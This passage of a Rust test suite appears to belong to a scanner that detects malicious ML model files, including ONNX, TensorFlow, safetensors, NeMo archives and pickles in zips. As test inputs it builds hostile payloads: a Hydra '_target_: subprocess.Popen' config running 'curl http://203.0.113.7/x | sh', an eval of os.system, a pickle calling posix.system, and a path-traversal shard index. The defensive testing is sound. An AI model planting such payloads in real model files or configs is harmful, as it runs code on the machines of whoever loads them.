        let r = scan_bytes("renamed.bin", &fixture(rel));
        assert_eq!(r.format, format, "{rel}");
        assert!(r.findings.is_empty(), "{rel}: {:?}", r.findings);
    }
    // inside a zip
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let o = zip::write::SimpleFileOptions::default();
        z.start_file("export/model.onnx", o).unwrap();
        std::io::Write::write_all(&mut z, &fixture("malicious/onnx/pyop.onnx")).unwrap();
        z.finish().unwrap();
    }
    let r = scan_bytes("bundle.zip", buf.get_ref());
    assert!(rules(&r).contains(&"ONX002"), "{:?}", r.findings);
}

/// A protobuf model cut short keeps what was found before the cut and says
/// that the rest was not inspected; lying lengths are reported, not trusted.
#[test]
fn truncated_and_lying_protobufs() {
    let onnx = fixture("malicious/onnx/pyop.onnx");
    // cut after the PyOp node (in the model's last fields): still critical, plus ONX004
    let r = scan_bytes("m.onnx", &onnx[..onnx.len() - 3]);
    assert_eq!(
        r.max_severity(),
        Some(Severity::Critical),
        "{:?}",
        r.findings
    );
    assert!(rules(&r).contains(&"ONX004"), "{:?}", r.findings);
    // a benign model whose graph announces more bytes than the file has
    let mut mlp = fixture("benign/onnx/mlp.onnx");
    mlp.truncate(mlp.len() - 7);
    let r = scan_bytes("m.onnx", &mlp);
    assert_eq!(rules(&r), ["ONX004"], "{:?}", r.findings);
    assert!(r.error.is_none());
    let tf = fixture("malicious/tf/pyfunc/saved_model.pb");
    let r = scan_bytes("saved_model.pb", &tf[..tf.len() - 3]);
    assert!(rules(&r).contains(&"TF004"), "{:?}", r.findings);
    // a TFLite file whose root offset points past the end
    let mut tfl = fixture("benign/tflite/add.tflite");
    tfl[0..4].copy_from_slice(&0x7fff_fff0u32.to_le_bytes());
    let r = scan_bytes("m.tflite", &tfl);
    assert_eq!(rules(&r), ["TF004"], "{:?}", r.findings);
    // an HDF5 signature and nothing valid after it
    let mut h5 = b"\x89HDF\r\n\x1a\n".to_vec();
    h5.extend_from_slice(&[0xff; 200]);
    let r = scan_bytes("m.h5", &h5);
    assert_eq!(rules(&r), ["KRS004"], "{:?}", r.findings);
}

/// TensorFlow checkpoint ops are ordinary unless a constant path sends them
/// outside the model; file and Python ops in function libraries count.
#[test]
fn tensorflow_ops_by_reason() {
    let r = scan_bytes(
        "saved_model.pb",
        &fixture("malicious/tf/writefile_in_function/saved_model.pb"),
    );
    assert_eq!(rules(&r), ["TF003"]);
    assert!(r.findings[0]
        .message
        .contains("/tmp/probity-fixture-written"));
    let r = scan_bytes(
        "saved_model.pb",
        &fixture("malicious/tf/readfile/saved_model.pb"),
    );
    assert_eq!(rules(&r), ["TF002"]);
    assert!(r.findings[0].message.contains("/etc/passwd"));
    let r = scan_bytes(
        "saved_model.pb",
        &fixture("malicious/tf/eagerpyfunc_in_function/saved_model.pb"),
    );
    assert_eq!(rules(&r), ["TF001"]);
}

/// A shard index is compared with the shards beside it; an index that leaves
/// the folder is critical on its own (also when found without its shards).
#[test]
fn shard_index_against_its_shards() {
    let base = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/formats");
    let ctx = Ctx::default();
    let idx = "model.safetensors.index.json";
    let ok = probity_scan::scan_file(
        &base.join("benign/safetensors/sharded").join(idx),
        idx.into(),
        &ctx,
    );
    assert_eq!(ok.format, "shard-index");
    assert!(ok.findings.is_empty(), "{:?}", ok.findings);
    let wrong = probity_scan::scan_file(
        &base
            .join("malicious/safetensors/sharded_wrong_shard")
            .join(idx),
        idx.into(),
        &ctx,
    );
    assert_eq!(rules(&wrong), ["SFT003"]);
    assert!(wrong.findings[0].message.contains("lm_head.weight"));
    // the benign index alone in an empty folder: its shards are missing
    let alone = scan_bytes(
        idx,
        &std::fs::read(base.join("benign/safetensors/sharded").join(idx)).unwrap(),
    );
    assert_eq!(rules(&alone), ["SFT003"]);
    assert!(alone.findings[0].message.contains("not beside the index"));
    let out = scan_bytes(
        idx,
        br#"{"metadata": {}, "weight_map": {"a": "../../x.bin", "b": "model.safetensors"}}"#,
    );
    assert!(rules(&out).contains(&"SFT004"), "{:?}", out.findings);
}

/// A tar of (name, bytes) members, as NeMo writes a `.nemo` file.
fn tar_of(members: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, &data[..]).unwrap();
    }
    b.into_inner().unwrap()
}

#[test]
fn hydra_targets_in_nemo_archives_and_configs() {
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let weights = std::fs::read(root.join("fixtures/benign/pytorch/all_dtypes.pt")).unwrap();
    let config = |extra: &str| {
        format!(
            "target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n  feat_in: 64\noptim:\n  sched:\n    _target_: torch.optim.lr_scheduler.CosineAnnealingLR\n{extra}"
        )
        .into_bytes()
    };
    // an ordinary NeMo model: only NeMo and PyTorch targets
    let benign = tar_of(&[
        ("./model_config.yaml", config("")),
        ("./model_weights.ckpt", weights.clone()),
    ]);
    let r = scan_bytes("asr.nemo", &benign);
    assert!(
        r.max_severity() < Some(Severity::Warning),
        "{:?}",
        r.findings
    );
    // a target that runs a command on restore
    let evil = tar_of(&[
        (
            "./model_config.yaml",
            config("callback:\n  _target_: subprocess.Popen\n  args: [\"sh\", \"-c\", \"curl http://203.0.113.7/x | sh\"]\n"),
        ),
        ("./model_weights.ckpt", weights.clone()),
    ]);
    let r = scan_bytes("asr.nemo", &evil);
    let hyd: Vec<_> = r.findings.iter().filter(|x| x.rule == "HYD001").collect();
    assert_eq!(hyd.len(), 1, "{:?}", r.findings);
    assert_eq!(hyd[0].location.member.as_deref(), Some("model_config.yaml"));
    assert_eq!(hyd[0].evidence.as_deref(), Some("subprocess.Popen"));
    // an unknown package: reviewed, not trusted
    let odd = tar_of(&[(
        "./model_config.yaml",
        config("cb:\n  _target_: mylab.callbacks.Upload\n"),
    )]);
    let r = scan_bytes("asr.nemo", &odd);
    assert_eq!(rules(&r), ["HYD002"], "{:?}", r.findings);
    // a JSON config beside the weights, and a bare builtin name
    let r = scan_bytes(
        "config.json",
        br#"{"model": {"_target_": "eval", "_args_": ["__import__('os').system('id')"]}}"#,
    );
    assert_eq!(rules(&r), ["HYD001"], "{:?}", r.findings);
    // not a NeMo archive: no NeMo CVE
    assert!(
        r.findings.iter().all(|f| f.cves.is_empty()),
        "{:?}",
        r.findings
    );
}

/// Found by the `zip_headers` fuzz target (input: the empty string): a
/// zip with data prepended, whose only member has its sizes in a data
/// descriptor and no central-directory entry. A reader that looks for the
/// first local header and follows the descriptor gets `os.system`; the scan
/// reported nothing at all. It must find the header past the prefix and
/// the data's end from the descriptor.
#[test]
fn fuzz_regression_prefixed_descriptor_member_without_central_entry() {
    let evil: &[u8] = b"\x80\x02cposix\nsystem\nq\0X\x02\0\0\0idq\x01\x85q\x02Rq\x03.";
    let crc = crc32fast::hash(evil);
    let mut z = b"MZ prefix data of a self-extracting archive\n".to_vec();
    z.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
    z.extend_from_slice(&20u16.to_le_bytes());
    z.extend_from_slice(&0x08u16.to_le_bytes()); // sizes in a descriptor
    z.extend_from_slice(&[0; 6]); // stored, time, date
    z.extend_from_slice(&[0; 12]); // crc and sizes left to the descriptor
    z.extend_from_slice(&10u16.to_le_bytes());
    z.extend_from_slice(&0u16.to_le_bytes());
    z.extend_from_slice(b"other0.pkl");
    z.extend_from_slice(evil);
    z.extend_from_slice(&0x0807_4b50u32.to_le_bytes());
    z.extend_from_slice(&crc.to_le_bytes());
    z.extend_from_slice(&(evil.len() as u32).to_le_bytes());
    z.extend_from_slice(&(evil.len() as u32).to_le_bytes());
    let cd = z.len() as u32;
    z.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    z.extend_from_slice(&[0; 8]); // disks, no entries
    z.extend_from_slice(&0u32.to_le_bytes());
    z.extend_from_slice(&cd.to_le_bytes());
    z.extend_from_slice(&0u16.to_le_bytes());
    let r = scan_bytes("model.pt", &z);
    assert!(rules(&r).contains(&"PKL001"), "{:?}", r.findings);
    assert!(rules(&r).contains(&"ARC001"), "{:?}", r.findings);
}
